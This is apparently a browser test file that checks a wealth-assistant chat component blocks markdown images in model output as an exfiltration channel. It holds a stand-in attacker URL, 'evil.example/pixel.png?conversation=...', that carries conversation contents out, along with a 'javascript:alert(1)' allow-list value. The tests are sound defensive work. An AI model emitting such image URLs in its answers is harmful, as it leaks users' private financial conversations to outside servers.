import {expect} from '@open-wc/testing';
import '../../../src/browser/element/define.js';
import {
  answerScript,
  chat,
  lastAnswer,
  scripted,
  send,
  until,
  waitForDone,
} from '../../helpers/chat-harness.js';
import {watch} from './watch.js';
import type {WealthAgentChat} from '../../../src/browser/element/wealth-agent-chat.js';

const LEAK = 'https://evil.example/pixel.png?conversation=my%20wealth%20is%2012M';

const ask = async (el: WealthAgentChat, markdown: string): Promise<HTMLElement> => {
  const {url} = await scripted(answerScript([markdown]));
  el.proxyUrl = url;
  const done = waitForDone(el);
  await send(el, 'Show me a chart');
  await done;
  return lastAnswer(el);
};

/**
 * Images in model output are an exfiltration channel: a URL can carry the conversation to whoever
 * serves it. Policy: by default an image is a link with its alt text and is never fetched;
 * `allow-images` lists the origins whose images may load.
 */
describe('<wealth-agent-chat> image exfiltration policy', () => {
  it('should never fetch an image by default, and show it as a link instead', async () => {
    const findings = watch(window);
    const foreign = findings.foreign.length;
    const el = await chat('/unused');
    const answer = await ask(
      el,
      `Here: ![your portfolio](${LEAK})\n\nand ![ref][r]\n\n[r]: https://evil.example/ref.png\n\n![same origin](${location.origin}/security/pixel.png)`,
    );
    expect(answer.querySelectorAll('img')).to.have.length(0);
    const placeholders = [...answer.querySelectorAll<HTMLAnchorElement>('a.image-placeholder')];
    expect(placeholders.map((link) => link.textContent.trim())).to.deep.equal([
      'your portfolio',
      'ref',
      'same origin',
    ]);
    expect(placeholders[0]?.href).to.equal(LEAK);
    expect(placeholders[0]?.getAttribute('aria-label')).to.equal('Image: your portfolio');
    expect(placeholders[0]?.rel).to.contain('noreferrer');
    await new Promise((resolve) => setTimeout(resolve, 200));
    expect(findings.foreign.slice(foreign)).to.deep.equal([]);
  });

  it('should load images only from the origins allow-images lists', async () => {
    const el = await chat('/unused', {
      'allow-images': `https://cdn.bank.example ${location.origin}`,
    });
    const answer = await ask(
      el,
      `![chart](${location.origin}/security/pixel.png?allowed) and ![leak](${LEAK}) and ![svg](data:image/svg+xml,<svg/>)`,
    );
    const images = [...answer.querySelectorAll('img')];
    expect(images).to.have.length(1);
    const image = images[0] as HTMLImageElement;
    expect(image.alt).to.equal('chart');
    expect(image.referrerPolicy).to.equal('no-referrer');
    await until(() => image.complete && image.naturalWidth === 1, 'the allowed image to load');
    expect(answer.querySelector<HTMLAnchorElement>('a.image-placeholder')?.href).to.equal(LEAK);
    // A data: URL is never an image source, whatever the list says.
    expect(answer.textContent).to.contain('svg');
  });

  it('should ignore allow-images entries that are not http(s) origins', async () => {
    const el = await chat('/unused', {'allow-images': 'javascript:alert(1) data: * evil.example'});
    const answer = await ask(el, `![a](${LEAK}) ![b](data:image/png;base64,iVBORw0KGgo=)`);
    expect(answer.querySelectorAll('img')).to.have.length(0);
  });
});
